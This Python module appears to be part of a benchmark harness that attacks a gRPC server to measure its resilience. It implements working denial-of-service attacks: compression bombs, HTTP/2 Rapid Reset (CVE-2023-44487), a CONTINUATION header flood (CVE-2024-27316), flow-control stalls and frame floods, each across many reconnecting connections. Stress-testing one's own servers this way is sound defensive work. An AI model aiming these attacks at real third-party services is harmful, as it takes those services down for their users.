"""What an attacker does to the gRPC server. Each attack goes on until it is cancelled."""

import asyncio
import gzip
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import cycle

from benchmarks import frames
from benchmarks.abuse.link import Link, linked
from benchmarks.cases import path_of
from benchmarks.frames import Kind

CALLERS = 16
_RETRY_AFTER_SECONDS = 0.05


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """A server, and the credential and job that the attacker has, if any."""

    address: str
    token: str = ""
    secret: str = ""
    jobs: list[int] = field(default_factory=list)


Attack = Callable[[Target], Awaitable[None]]


@dataclass(frozen=True, slots=True, kw_only=True)
class Bomb:
    """A call, ready to be sent: a few kilobytes that are more than they seem, or as they are, where not `packed`."""

    path: str
    content: bytes

    @classmethod
    def of(cls, call: str, message: bytes, *, packed: bool = True) -> "Bomb":
        sent = gzip.compress(message, compresslevel=6) if packed else message
        return cls(
            path=call if call.startswith("/") else path_of(call), content=frames.message(sent, compressed=packed)
        )


async def nothing(target: Target) -> None:
    await asyncio.Event().wait()


def calls_of(*bombs: Bomb) -> Attack:
    async def attack(target: Target) -> None:
        async def caller(link: Link) -> None:
            for bomb in cycle(bombs):
                await link.call(bomb.path, bomb.content, bearer=target.token)

        await _many(target, caller, CALLERS)

    return attack


def held_calls(bomb: Bomb, *, calls: int, links: int = CALLERS) -> Attack:
    async def attack(target: Target) -> None:
        async def caller(link: Link) -> None:
            for _ in range(calls // links):
                stream = await link.begin(bomb.path, bearer=target.token)
                await link.send(stream, bomb.content, last=True)
            await link.closed.wait()

        await _many(target, caller, links)

    return attack


def half_sent(path: str, part: bytes, *, calls: int) -> Attack:
    async def attack(target: Target) -> None:
        async def caller(link: Link) -> None:
            for _ in range(calls // CALLERS):
                stream = await link.begin(path)
                await link.send(stream, part, last=False)
            await link.closed.wait()

        await _many(target, caller, CALLERS)

    return attack


async def rapid_reset(target: Target) -> None:
    """Calls that are reset at once (CVE-2023-44487)."""

    async def caller(link: Link) -> None:
        while True:
            stream = await link.begin(path_of("Serial"))
            await link.write(frames.frame(Kind.RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
            link.forget(stream)
            await asyncio.sleep(0)

    await _many(target, caller, CALLERS)


def flood(some: Sequence[bytes]) -> Attack:
    async def attack(target: Target) -> None:
        many = b"".join(some) * 50

        async def caller(link: Link) -> None:
            while True:
                await link.write(many)
                await asyncio.sleep(0.001)

        await _many(target, caller, CALLERS)

    return attack


async def endless_headers(target: Target) -> None:
    """Headers without END_HEADERS (CVE-2024-27316)."""
    more = frames.frame(Kind.CONTINUATION, 0, 1, frames.header("x", b"a" * 1_000) * 4)

    async def caller(link: Link) -> None:
        await link.write(frames.frame(Kind.HEADERS, 0, 1, frames.headers(target.address, path_of("Serial"))))
        while True:
            await link.write(more)
            await asyncio.sleep(0.001)

    await _many(target, caller, CALLERS)


def unread(bomb: Callable[[Target], Bomb], *, calls: int) -> Attack:
    """Calls whose answers are never read: the flow-control window stays closed."""

    async def attack(target: Target) -> None:
        async def caller(link: Link) -> None:
            for _ in range(calls // CALLERS):
                made = bomb(target)
                stream = await link.begin(made.path, bearer=target.token)
                await link.send(stream, made.content, last=True)
            await link.closed.wait()

        await _many(target, caller, CALLERS, window=0)

    return attack


def endless_stream(path: str, message: bytes) -> Attack:
    async def attack(target: Target) -> None:
        async def caller(link: Link) -> None:
            stream = await link.begin(path, bearer=target.token)
            many = frames.message(message) * 20
            while True:
                await link.send(stream, many, last=False)
                await asyncio.sleep(0.001)

        await _many(target, caller, CALLERS)

    return attack


def attack_by_many(caller: Callable[[Link], Awaitable[None]], *, number: int = CALLERS) -> Attack:
    async def attack(target: Target) -> None:
        await _many(target, caller, number)

    return attack


async def _many(
    target: Target, caller: Callable[[Link], Awaitable[None]], number: int, *, window: int = 1 << 30
) -> None:
    """So many callers, each with its own connection, reconnecting where the server hangs up."""

    async def again_and_again() -> None:
        while True:
            with suppress(OSError):
                async with linked(target.address, window=window) as link:
                    await caller(link)
            await asyncio.sleep(_RETRY_AFTER_SECONDS)

    async with asyncio.TaskGroup() as group:
        for _ in range(number):
            group.create_task(again_and_again())
